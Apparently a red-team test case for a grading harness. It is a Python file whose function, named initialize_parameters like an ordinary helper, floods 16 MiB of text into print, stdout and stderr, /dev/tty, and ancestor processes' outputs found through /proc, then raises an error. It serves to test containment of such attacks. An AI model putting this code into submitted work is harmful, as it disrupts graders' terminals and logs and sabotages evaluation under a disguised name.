# RED-TEAM ATTACK (issue 9): flood every output there is (each capped at 16 MiB, to stay polite).
# Route: print, sys.__stdout__ and sys.__stderr__, posix.write on fds 1 and 2, /dev/stdout and
#   /dev/tty, and the standard output and error of every ancestor (/proc/<pid>/fd/1 and 2) that are
#   a terminal or a file: the grader's own terminal or log.
# Contained when: the report stays small, the grader's own output is not flooded, the rest of the
#   batch is unchanged, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys

CHUNK = "flood " * 10922 + "\n"  # 64 KiB
COUNT = 256  # 16 MiB per channel


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids


def _pour(write):
    try:
        for _ in range(COUNT):
            write(CHUNK)
    except Exception:
        pass


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    if getattr(initialize_parameters, "done", False):
        raise RuntimeError("flooded")
    initialize_parameters.done = True
    _pour(lambda text: print(text, end=""))
    for stream in (sys.__stdout__, sys.__stderr__):
        _pour(stream.write)
    for fd in (1, 2):
        _pour(lambda text: posix.write(fd, text.encode()))
    paths = ["/dev/stdout", "/dev/stderr", "/dev/tty"]
    for pid in _ancestors():
        paths += ["/proc/%d/fd/1" % pid, "/proc/%d/fd/2" % pid]
    for path in paths:
        try:
            if os.readlink(path).startswith(("pipe:", "socket:", "anon_inode:")):
                continue  # a protocol channel, not a terminal or log: that is another attack (frame_*.py)
        except OSError:
            pass
        try:
            with open(path, "w") as stream:
                _pour(stream.write)
        except Exception:
            pass
    raise RuntimeError("flooded")
